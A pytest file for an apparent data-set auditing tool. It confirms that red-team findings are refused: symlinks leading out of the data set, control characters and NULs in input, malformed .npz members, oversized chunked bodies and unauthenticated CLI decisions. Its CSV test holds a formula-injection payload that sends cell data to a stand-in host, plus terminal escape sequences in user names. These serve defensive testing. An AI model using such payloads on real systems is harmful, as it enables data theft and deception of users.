"""Issue 27, item 6: the small holes a red team found, each refused in one line.

- An ImageFolder file that links outside the data set folder is refused, naming it, wherever a
  file is opened: the whole load, the scan, a streamed pass and the review app's pictures.
- A control character in a user name, a NUL or lone surrogate in a note: a one-line 400 (API)
  or CLI error before the database sees it (PostgreSQL answered a NUL with a 503).
- An .npz member that is not a .npy file: one line naming the member, not a traceback.
- CSV exports never hold a cell a spreadsheet evaluates (OWASP's leading quote); JSON keeps
  the text as typed.
- A chunked body over the limit, without Content-Length: 413, as with one.
- `new_label: true` (and other non-integers) in a decision request: 422, not class 1.
- Once users exist, a CLI decision needs the reviewer's password (file, environment or a
  terminal), not just their name; a single-user install is unchanged.

Over the real store on SQLite and PostgreSQL where the store is involved; real processes for
the terminal and the HTTP server.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select as io_select
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from factories import make_audit, make_dataset
from fastapi.testclient import TestClient
from helpers import cli
from PIL import Image
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from auditor import auth, reviewing
from auditor.analyses.base import FindingRecord
from auditor.data.imagefolder import load_imagefolder
from auditor.data.npz import load_npz
from auditor.data.options import DataOptions
from auditor.datasets import register_dataset
from auditor.errors import DataError
from auditor.findings_view import export_rows, write_export
from auditor.store import datasets as dataset_store
from auditor.store import findings as finding_store
from auditor.store.models import Dataset, ReviewEvent, User
from auditor.web.app import create_app

PASSWORD = "correct horse"


def one_line(r) -> str:
    detail = r.json()["detail"]
    assert isinstance(detail, str) and detail and "\n" not in detail, r.text
    return detail


def count(sessions: sessionmaker[Session], model) -> int:
    with sessions() as s:
        return int(s.scalar(select(func.count()).select_from(model)))


def bearer(client: TestClient, user: str = "ana") -> dict[str, str]:
    r = client.post("/api/token", json={"username": user, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


# ---- ImageFolder links out of the data set ------------------------------------------------------
def _image(path: Path, value: int, size: tuple[int, int] = (6, 4)) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("L", size, color=value).save(path)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """root/{cat,dog}/N.png, and outside it a picture nobody should see through the data set."""
    root = tmp_path / "set"
    for i in range(3):
        _image(root / "cat" / f"{i}.png", 10 + i)
        _image(root / "dog" / f"{i}.png", 100 + i)
    _image(tmp_path / "private" / "secret.png", 255)
    return root


def _link_out(root: Path, name: str = "dog/1.png") -> Path:
    """Replace root/name with a symlink to the private picture outside the folder."""
    link = root / name
    link.unlink()
    link.symlink_to(root.parent / "private" / "secret.png")
    return link


@pytest.mark.parametrize("lazy", [False, True], ids=["loaded", "scanned"])
def test_an_image_linking_outside_the_folder_is_refused_naming_it(folder: Path, lazy: bool) -> None:
    link = _link_out(folder)
    with pytest.raises(DataError) as err:
        load_imagefolder(folder, lazy=lazy)
    message = str(err.value)
    assert (
        "\n" not in message
        and message.startswith(str(link))
        and "outside the data set folder" in message
    )


@pytest.mark.parametrize("lazy", [False, True], ids=["loaded", "scanned"])
def test_a_class_folder_linking_outside_is_refused_and_links_inside_are_fine(
    folder: Path, tmp_path: Path, lazy: bool
) -> None:
    (folder / "cat" / "again.png").symlink_to(folder / "dog" / "0.png")  # inside: allowed
    assert len(load_imagefolder(folder, lazy=lazy).y) == 7
    (folder / "bird").symlink_to(tmp_path / "private", target_is_directory=True)
    with pytest.raises(DataError, match="bird/secret.png: links to .*outside the data set folder"):
        load_imagefolder(folder, lazy=lazy)


def test_a_file_swapped_for_a_link_after_the_scan_fails_the_streamed_pass_naming_it(
    folder: Path,
) -> None:
    examples = load_imagefolder(folder, lazy=True, options=DataOptions(data_workers=0))
    assert examples.x[4].tolist()[0][0] == 101  # dog/1.png, read from its file
    link = _link_out(folder)
    with pytest.raises(DataError) as err:
        examples.x[0:6]
    assert str(err.value).startswith(str(link)) and "outside the data set folder" in str(err.value)


def test_dataset_add_refuses_a_folder_with_a_link_out_in_one_line(folder: Path) -> None:
    link = _link_out(folder)
    result = cli("dataset", "add", "pics", str(folder), ok=False)
    lines = result.stderr.strip().splitlines()
    assert result.exit_code != 0 and len(lines) == 1 and str(link) in lines[0]
    assert "pics" not in cli("dataset", "list")


def test_the_picture_of_a_file_swapped_for_a_link_is_refused_not_served(
    folder: Path, sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    register_dataset(sessions, "pics", folder, data=DataOptions())
    with sessions() as s, s.begin():
        ds = dataset_store.get_dataset(s, "pics")
        audit_id = make_audit(s, ds).id
        auth.add_user(s, "ana", "reviewer", PASSWORD)
    link = _link_out(folder)
    with TestClient(create_app(sessions, home=tmp_path / "home")) as client:
        h = bearer(client)
        ok = client.get(f"/api/audits/{audit_id}/examples/0/image", headers=h)
        assert ok.status_code == 200 and ok.content[:4] == b"\x89PNG"
        r = client.get(f"/api/audits/{audit_id}/examples/4/image", headers=h)  # dog/1.png
        assert r.status_code == 404 and "outside the data set folder" in one_line(r)
        assert str(link) in one_line(r)


# ---- names and notes the database cannot hold -------------------------------------------------
@pytest.fixture
def store(
    sessions: sessionmaker[Session], db_url: str, monkeypatch
) -> tuple[sessionmaker[Session], int, list[int]]:
    """An audit of 6 findings (the even ones suggest class 2) and users ana (reviewer), vic
    (viewer); the CLI uses the same database."""
    with sessions() as s, s.begin():
        audit = make_audit(s, make_dataset(s, n=6))
        finding_store.upsert_findings(s, audit.id, [
            FindingRecord(example_index=i, example_key=f"k{i:06d}", kind="label", score=float(6 - i), rank=i,
                          label=i % 3, payload={"suggested_label": 2} if i % 2 == 0 else {})
            for i in range(6)
        ])  # fmt: skip
        ids = [f.id for f in finding_store.list_findings(s, audit.id)]
        auth.add_user(s, "ana", "reviewer", PASSWORD)
        auth.add_user(s, "vic", "viewer", PASSWORD)
    monkeypatch.setenv("AUDITOR_DATABASE_URL", db_url)
    return sessions, audit.id, ids


@pytest.fixture
def client(store, tmp_path: Path) -> Iterator[TestClient]:
    with TestClient(create_app(store[0], home=tmp_path / "home")) as c:
        yield c


@pytest.mark.parametrize("name", ["an\x00a", "ana\n", "an\x1b[31ma", "an\x7fa"])
def test_a_control_character_in_a_user_name_is_a_one_line_400_at_sign_in(client, name: str) -> None:
    r = client.post("/api/token", json={"username": name, "password": PASSWORD})
    assert r.status_code == 400 and "control character" in one_line(r)
    r = client.post("/login", data={"username": name, "password": PASSWORD})
    assert r.status_code == 400 and "control character" in one_line(r)


@pytest.mark.parametrize(
    ("note", "status", "message"),
    [("a\x00b", 400, "the note holds a NUL"), ("\x00", 400, "the note holds a NUL"),
     ("bad \udcff byte", 422, "note: Input should be a valid string")],  # pydantic's own check
)  # fmt: skip
def test_a_note_the_database_cannot_hold_is_refused_in_one_line_and_stores_nothing(
    store, client, note: str, status: int, message: str
) -> None:
    sessions, _, ids = store
    body = json.dumps({"decision": "dismissed", "note": note}).encode()  # \u0000, \udcff escapes
    r = client.post(
        f"/api/findings/{ids[0]}/decision",
        headers={**bearer(client), "Content-Type": "application/json"},
        content=body,
    )
    assert r.status_code == status and message in one_line(r)
    assert count(sessions, ReviewEvent) == 0


def test_a_note_with_newlines_and_tabs_is_kept_as_typed(store, client) -> None:
    sessions, _, ids = store
    r = client.post(f"/api/findings/{ids[0]}/decision", headers=bearer(client),
                    json={"decision": "dismissed", "note": "line one\n\tline two"})  # fmt: skip
    assert r.status_code == 200, r.text
    with sessions() as s:
        assert s.scalar(select(ReviewEvent.note)) == "line one\n\tline two"


def test_a_user_or_data_set_name_ending_in_a_newline_is_refused(
    sessions: sessionmaker[Session], folder: Path
) -> None:
    with (
        sessions() as s,
        s.begin(),
        pytest.raises(DataError, match="user name 'ana\\\\n' is not allowed"),
    ):
        auth.add_user(s, "ana\n", "reviewer", PASSWORD)
    with pytest.raises(DataError, match="dataset name 'pics\\\\n' is not allowed"):
        register_dataset(sessions, "pics\n", folder, data=DataOptions())
    assert count(sessions, User) == 0 and count(sessions, Dataset) == 0


def test_a_cli_reviewer_or_note_with_a_control_character_is_refused(
    sessions, db_url, monkeypatch
) -> None:
    """A single-user install (no users): the name is recorded as given, so it is checked too."""
    with sessions() as s, s.begin():
        audit = make_audit(s, make_dataset(s, n=4))
        finding_store.upsert_findings(s, audit.id, [FindingRecord(0, "k0", "label", 1.0, 0, 0, {})])
        fid = finding_store.list_findings(s, audit.id)[0].id
    monkeypatch.setenv("AUDITOR_DATABASE_URL", db_url)
    bad = cli("review", "decide", str(fid), "--dismiss", "--reviewer", "an\x1b[2Ja", ok=False)
    assert (
        bad.exit_code != 0 and "reviewer name 'an\\x1b[2Ja' holds a control character" in bad.stderr
    )
    bad = cli("review", "decide", str(fid), "--dismiss", "--note", "not \udcff utf-8", ok=False)
    assert bad.exit_code != 0 and "the note holds an unpaired surrogate" in bad.stderr
    assert count(sessions, ReviewEvent) == 0
    assert (
        cli("review", "decide", str(fid), "--dismiss", "--reviewer", "bo", "--json")["reviewer"]
        == "bo"
    )


# ---- .npz members that are not arrays ------------------------------------------------------------
def _npy(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("members", "named"),
    [
        ({"x": b"hello", "y.npy": _npy(np.array([0, 1]))}, "x"),  # no .npy suffix
        ({"x.npy": b"not an array", "y.npy": _npy(np.array([0, 1]))}, "x"),  # no .npy header
        ({"x.npy": _npy(np.zeros((2, 3))), "y.npy": b"\x00\x01"}, "y"),
        (
            {"x.npy": _npy(np.zeros((2, 3))), "y.npy": _npy(np.array([0, 1])), "groups.npy": b"?"},
            "groups",
        ),
    ],
)
@pytest.mark.parametrize("lazy", [None, True])
def test_an_npz_member_that_is_not_an_array_is_one_line_naming_it(
    tmp_path: Path, members, named, lazy
) -> None:
    path = tmp_path / "odd.npz"
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    with pytest.raises(DataError) as err:
        load_npz(path, lazy=lazy)
    assert (
        str(err.value)
        == f"{path}: member {named!r} is not a .npy array (write the file with numpy.savez)"
    )
    result = cli("dataset", "add", "odd", str(path), ok=False)
    lines = result.stderr.strip().splitlines()
    assert (
        result.exit_code != 0
        and len(lines) == 1
        and f"member {named!r} is not a .npy array" in lines[0]
    )


# ---- CSV cells a spreadsheet would evaluate -------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_csv_exports_hold_no_formula_and_json_keeps_the_text(store, tmp_path: Path) -> None:
    sessions, audit_id, ids = store
    with sessions() as s, s.begin():
        for fid, note in zip(ids, FORMULAS, strict=True):
            reviewing.decide(s, fid, "dismissed", reviewer="ana", note=note)
    out_csv, out_json = tmp_path / "labels.csv", tmp_path / "labels.json"
    cli("findings", "export", str(audit_id), "--out", str(out_csv))
    cli("findings", "export", str(audit_id), "--out", str(out_json))
    with out_csv.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["note"] for r in rows] == ["'" + n for n in FORMULAS]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert [r["note"] for r in json.loads(out_json.read_text())] == FORMULAS
    # numbers stay numbers: a negative score is not text to escape
    with sessions() as s:
        doc = export_rows(s, audit_id)
    doc[0]["score"], doc[1]["locator"] = -1.5, "-odd/name.png"
    write_export(doc, out_csv)
    with out_csv.open(newline="") as fh:
        first, second = list(csv.DictReader(fh))[:2]
    assert first["score"] == "-1.5" and second["locator"] == "'-odd/name.png"


# ---- request bodies -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("decision", {"decision": "relabelled", "new_label": True}, "new_label"),
        ("decision", {"decision": "relabelled", "new_label": False}, "new_label"),
        ("decision", {"decision": "relabelled", "new_label": 1.0}, "new_label"),
        ("decision", {"decision": "dismissed", "expected_version": True}, "expected_version"),
        ("undo", {"expected_version": True}, "expected_version"),
        ("accept", {"top_k": True}, "top_k"),
        ("accept", {"top_k": 2, "label": True}, "label"),
        ("accept", {"finding_ids": [True]}, "finding_ids"),
    ],
)
def test_true_false_or_a_float_is_no_class_or_count_422_and_nothing_stored(
    store, client, path, body, field
) -> None:
    sessions, audit_id, ids = store
    url = (
        f"/api/audits/{audit_id}/accept-suggested"
        if path == "accept"
        else f"/api/findings/{ids[0]}/{path}"
    )
    r = client.post(url, headers=bearer(client), json=body)
    assert r.status_code == 422 and one_line(r).startswith(field)
    assert count(sessions, ReviewEvent) == 0


def test_integers_and_class_names_still_decide(store, client) -> None:
    sessions, _, ids = store
    h = bearer(client)
    r = client.post(
        f"/api/findings/{ids[1]}/decision",
        headers=h,
        json={"decision": "relabelled", "new_label": 1},
    )
    assert r.status_code == 200 and r.json()["decision"]["new_label"] == 1
    r = client.post(f"/api/findings/{ids[1]}/decision", headers=h,
                    json={"decision": "relabelled", "new_label": "2", "expected_version": 1})  # fmt: skip
    assert r.status_code == 200 and r.json()["decision"]["new_label"] == 2


def _chunks(total: int, size: int = 4096) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        yield b" " * min(size, total - sent)
        sent += size


def test_a_chunked_body_over_the_limit_is_413_and_under_it_is_read(store, client) -> None:
    sessions, _, ids = store
    h = {**bearer(client), "Content-Type": "application/json"}
    url = f"/api/findings/{ids[0]}/decision"
    r = client.post(
        url, headers=h, content=_chunks(100_000)
    )  # a generator: chunked, no Content-Length
    assert r.status_code == 413 and "larger than" in one_line(r)
    small = json.dumps({"decision": "dismissed", "note": "sent in chunks"}).encode()
    r = client.post(url, headers=h, content=iter([small[:10], small[10:]]))
    assert r.status_code == 200, r.text
    assert count(sessions, ReviewEvent) == 1


def test_a_real_server_answers_a_chunked_oversized_body_with_413(store, tmp_path: Path) -> None:
    """uvicorn on 127.0.0.1 and a raw socket sending 100 KB in 4 KB chunks, no Content-Length."""
    import uvicorn

    server = uvicorn.Server(
        uvicorn.Config(
            create_app(store[0], home=tmp_path / "home"),
            host="127.0.0.1",
            port=0,
            log_level="error",
        )
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not (server.started and server.servers):
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(b"POST /api/findings/1/decision HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                         b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")  # fmt: skip
            try:
                for chunk in _chunks(100_000):
                    sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sock.sendall(b"0\r\n\r\n")
            except (BrokenPipeError, ConnectionResetError):
                pass  # the server may answer and close before the rest is sent
            answer = b""
            while b"\r\n\r\n" not in answer:
                data = sock.recv(65536)
                if not data:
                    break
                answer += data
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    finally:
        server.should_exit = True
        thread.join(10)


# ---- who decides from the CLI ---------------------------------------------------------------------
def test_once_users_exist_a_cli_decision_needs_the_reviewers_password(
    store, tmp_path: Path, monkeypatch
) -> None:
    sessions, _, ids = store
    fid = str(ids[0])
    bare = cli("review", "decide", fid, "--dismiss", "--reviewer", "ana", ok=False)
    lines = bare.stderr.strip().splitlines()
    assert (
        bare.exit_code != 0
        and len(lines) == 1
        and "--password-file" in lines[0]
        and "AUDITOR_REVIEWER_PASSWORD" in lines[0]
    )
    wrong = tmp_path / "wrong"
    wrong.write_text("not her password\n")
    refused = cli(
        "review",
        "decide",
        fid,
        "--dismiss",
        "--reviewer",
        "ana",
        "--password-file",
        str(wrong),
        ok=False,
    )
    assert refused.exit_code != 0 and "wrong password for reviewer 'ana'" in refused.stderr
    monkeypatch.setenv("AUDITOR_REVIEWER_PASSWORD", "also wrong")
    assert cli("review", "undo", fid, "--reviewer", "ana", ok=False).exit_code != 0
    assert count(sessions, ReviewEvent) == 0
    # the right password, from a file (first line) or the environment
    right = tmp_path / "right"
    right.write_text(PASSWORD + "\n")
    ok = cli(
        "review",
        "decide",
        fid,
        "--dismiss",
        "--reviewer",
        "ana",
        "--password-file",
        str(right),
        "--json",
    )
    assert ok["reviewer"] == "ana"
    monkeypatch.setenv("AUDITOR_REVIEWER_PASSWORD", PASSWORD)
    monkeypatch.setenv("AUDITOR_REVIEWER", "ana")
    assert cli("review", "undo", fid, "--json")["decision"] is None
    # a viewer with the right password still cannot decide; an unknown name is named
    viewer = cli("review", "decide", fid, "--dismiss", "--reviewer", "vic", ok=False)
    assert viewer.exit_code != 0 and "viewer and cannot decide" in viewer.stderr
    with sessions() as s:
        assert [e.reviewer for e in s.scalars(select(ReviewEvent).order_by(ReviewEvent.id))] == [
            "ana",
            "ana",
        ]


def test_a_single_user_install_decides_from_the_cli_without_a_password(
    sessions, db_url, monkeypatch
) -> None:
    with sessions() as s, s.begin():
        audit = make_audit(s, make_dataset(s, n=4))
        finding_store.upsert_findings(s, audit.id, [FindingRecord(0, "k0", "label", 1.0, 0, 0, {})])
        fid = finding_store.list_findings(s, audit.id)[0].id
    monkeypatch.setenv("AUDITOR_DATABASE_URL", db_url)
    assert (
        cli("review", "decide", str(fid), "--dismiss", "--reviewer", "solo", "--json")["reviewer"]
        == "solo"
    )


def test_on_a_terminal_the_cli_asks_for_the_password(store) -> None:
    """A real `auditor review decide` in a pseudo-terminal: it asks, reads the typed password
    without echoing it, and records the decision under the reviewer."""
    sessions, _, ids = store
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in sys.path if p)}
    env.pop("AUDITOR_REVIEWER_PASSWORD", None)
    code = "import sys; from auditor.cli.main import app; sys.argv[0] = 'auditor'; app()"
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-c", code, "review", "decide", str(ids[0]), "--dismiss", "--reviewer", "ana", "--json"],
        stdin=follower, stdout=subprocess.PIPE, stderr=follower, env=env,
    )  # fmt: skip
    os.close(follower)
    seen = b""
    deadline = time.monotonic() + 60
    try:
        while b"password for reviewer ana" not in seen:
            assert time.monotonic() < deadline, f"no password prompt: {seen!r}"
            ready, _, _ = io_select.select([leader], [], [], 1)
            if ready:
                seen += os.read(leader, 1024)
        os.write(leader, PASSWORD.encode() + b"\n")
        out, _ = proc.communicate(timeout=60)
    finally:
        proc.kill()
        os.close(leader)
    assert proc.returncode == 0 and json.loads(out)["reviewer"] == "ana"
    assert PASSWORD.encode() not in seen  # not echoed
    with sessions() as s:
        assert [e.reviewer for e in s.scalars(select(ReviewEvent))] == ["ana"]


def test_a_nul_in_the_kind_filter_is_a_one_line_422_not_a_database_error(sessions) -> None:
    """PostgreSQL refuses NUL in text mid-transaction (a 503): the filter is checked first."""
    from starlette.testclient import TestClient

    from auditor.auth import add_user
    from auditor.web.app import create_app

    with sessions() as s, s.begin():
        add_user(s, "ana", "viewer", "a-long-password")
    with TestClient(create_app(sessions)) as client:
        token = client.post("/api/token", json={"username": "ana", "password": "a-long-password"}).json()["access_token"]
        auth = {"Authorization": f"Bearer {token}"}
        api = client.get("/api/audits/1/findings", params={"kind": "la\x00bel"}, headers=auth)
        page = client.get("/audits/1", params={"kind": "la\x00bel"}, headers=auth)
    assert api.status_code == 422 and list(api.json()) == ["detail"]
    assert page.status_code == 422
